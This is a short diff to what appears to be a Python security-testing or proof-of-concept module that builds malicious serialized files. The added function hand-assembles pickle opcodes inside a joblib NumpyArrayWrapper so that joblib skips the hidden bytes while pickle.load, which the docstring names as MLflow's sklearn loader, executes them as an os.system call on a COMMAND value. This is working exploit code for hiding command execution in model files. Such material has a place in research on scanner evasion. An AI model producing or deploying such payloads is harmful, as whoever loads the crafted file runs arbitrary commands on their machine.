@@ -253,3 +253,15 @@ def npy_object_array(payload_pickle: bytes) -> bytes:
     header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
     header += " " * (63 - (10 + len(header)) % 64) + "\n"
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload_pickle
+
+
+def payload_hidden_in_joblib_array() -> bytes:
+    """joblib.load skips N bytes after a NumpyArrayWrapper as array data; pickle.load (MLflow's sklearn
+    flavor) reads those same bytes as opcodes: here, a call of os.system."""
+    hidden = b"0" + s("posix") + s("system") + b"\x93" + s(COMMAND) + b"\x85R."   # POP the wrapper, call, STOP
+    dtype = s("numpy") + s("dtype") + b"\x93" + s("u1") + b"\x89\x88\x87R"
+    state = (b"}(" + s("subclass") + s("numpy") + s("ndarray") + b"\x93" + s("shape") + b"J"
+             + struct.pack("<i", len(hidden)) + b"\x85" + s("order") + s("C") + s("dtype") + dtype
+             + s("allow_mmap") + b"\x89" + s("numpy_array_alignment_bytes") + b"N" + b"u")
+    wrapper = s("joblib.numpy_pickle") + s("NumpyArrayWrapper") + b"\x93)\x81" + state + b"b"
+    return b"\x80\x04" + wrapper + hidden + b"."
